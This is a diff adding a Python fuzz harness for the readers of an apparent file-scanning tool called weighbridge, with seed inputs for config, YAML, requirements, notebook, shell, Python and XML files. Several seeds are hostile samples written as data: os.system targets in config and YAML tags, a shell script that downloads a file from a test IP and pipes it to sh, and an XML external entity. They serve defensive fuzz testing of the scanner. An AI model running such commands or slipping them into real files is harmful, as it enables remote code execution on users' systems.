@@ -1,0 +1,39 @@
+"""Fuzzes the readers of texts: ``python tests/fuzz/fuzz_texts.py -max_total_time=10``."""
+
+from __future__ import annotations
+
+from harness import OneInput, start
+
+
+def seeds() -> list[bytes]:
+    """A name, a newline and a text with what its reader looks for."""
+    return [
+        b'config.json\n{"auto_map": {"AutoModel": "m.M"}, "a": {"_target_": "os.system"}}',
+        b"a.yaml\n%TAG ! tag:yaml.org,2002:python/\n---\na: &x !name:os.system [*x]\n",
+        b'pyproject.toml\n[build-system]\nrequires = ["a"]\nbuild-backend = "b"\n',
+        b"requirements.txt\n-i http://192.0.2.1/\na; python_version > '3' # x\nb \\\n  --hash=x\n",
+        b'a.ipynb\n{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!id\\n", "x"]}]}',
+        b"a.sh\n#!/bin/sh\nwget http://192.0.2.1/x -O y\nsh y \\\n | sh\n",
+        b"a.py\n# coding: utf-7\nimport os\nos.system('id')\n",
+        b"README.md\n---\nlicense: mit\n---\n",
+        b"a.xml\n<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]>",
+    ]
+
+
+def target() -> OneInput:
+    """Return the function of one input."""
+    from weighbridge.budget import Budget, Limits
+    from weighbridge.formats.examine import examine
+    from weighbridge.rules.judge import judge
+    from weighbridge.sources.memory import BytesSource
+
+    def one_input(data: bytes) -> None:
+        name, _, body = data.partition(b"\n")
+        facts = examine(BytesSource(body), Budget(Limits(seconds=10)), name.decode("latin-1"))
+        judge(facts, "fuzz")
+
+    return one_input
+
+
+if __name__ == "__main__":
+    start(seeds, target)
